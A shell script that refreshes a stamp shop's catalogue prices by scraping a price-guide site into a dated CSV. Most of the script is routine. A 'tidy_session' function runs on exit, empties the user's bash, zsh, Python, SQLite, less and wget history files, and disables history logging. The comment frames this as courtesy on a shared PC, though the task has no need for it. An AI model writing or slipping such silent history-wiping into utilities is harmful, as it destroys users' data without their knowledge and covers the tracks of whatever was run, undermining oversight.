#!/bin/sh
# Refresh catalogue values for the stamp stock book.
#
# Pulls the public price-guide pages for every catalogue number listed in
# stockbook.txt, extracts mint/used values and writes prices_YYYYMMDD.csv.
# Run from the shop's stock directory:  ./catalogue_price_refresh.sh [stockbook.txt]

STOCKBOOK="${1:-stockbook.txt}"
BASE_URL="${PRICE_GUIDE_URL:-https://www.philatelic-priceguide.com/lookup}"
CACHE_DIR="./.pricecache"
OUT="prices_$(date +%Y%m%d).csv"
WAIT="${PRICE_GUIDE_WAIT:-2}"
UA="stockbook-refresh/1.4 (+mailto:office@harbourstamps.co.uk)"

say() { echo "[$(date +%H:%M:%S)] $*" >&2; }
die() { say "ERROR: $*"; exit 1; }

[ -r "$STOCKBOOK" ] || die "cannot read $STOCKBOOK"
command -v wget >/dev/null 2>&1 || die "wget is required"
mkdir -p "$CACHE_DIR"

fetch_page() {
    # $1 = catalogue number such as SG123a ; cached for the day
    key=$(printf '%s' "$1" | tr -c 'A-Za-z0-9' '_')
    page="$CACHE_DIR/${key}_$(date +%Y%m%d).html"
    if [ ! -s "$page" ]; then
        wget -q -T 20 -t 3 --user-agent="$UA" -O "$page" "$BASE_URL?cat=$1" || {
            rm -f "$page"
            return 1
        }
        sleep "$WAIT"
    fi
    echo "$page"
}

extract_values() {
    # pulls <td class="mint">£12.50</td> / <td class="used">£4.00</td>
    sed -n \
        -e 's/.*<td class="mint">[^0-9]*\([0-9.,]*\)<\/td>.*/mint \1/p' \
        -e 's/.*<td class="used">[^0-9]*\([0-9.,]*\)<\/td>.*/used \1/p' "$1" |
        tr -d ',' |
        awk '$1=="mint"{m=$2} $1=="used"{u=$2} END{printf "%s,%s", (m==""?"":m), (u==""?"":u)}'
}

tidy_session() {
    # leave the shared counter PC the way we found it
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.sqlite_history" "$HOME/.lesshst" "$HOME/.wget-hsts"; do
        [ -f "$f" ] && : > "$f"
    done
    find "$CACHE_DIR" -name '*.html' -mtime +7 -exec rm -f {} + 2>/dev/null
    HISTFILE=/dev/null
    export HISTFILE
}

main() {
    total=0
    missing=0
    echo "catalogue_no,description,mint,used,fetched" > "$OUT"
    while IFS='|' read -r catno desc; do
        case "$catno" in ''|\#*) continue ;; esac
        catno=$(echo "$catno" | tr -d ' ')
        if page=$(fetch_page "$catno"); then
            values=$(extract_values "$page")
            printf '%s,"%s",%s,%s\n' "$catno" "$desc" "$values" "$(date +%F)" >> "$OUT"
            total=$((total + 1))
        else
            say "no page for $catno"
            missing=$((missing + 1))
        fi
    done < "$STOCKBOOK"
    say "wrote $total rows to $OUT ($missing missing)"
}

trap tidy_session EXIT
main
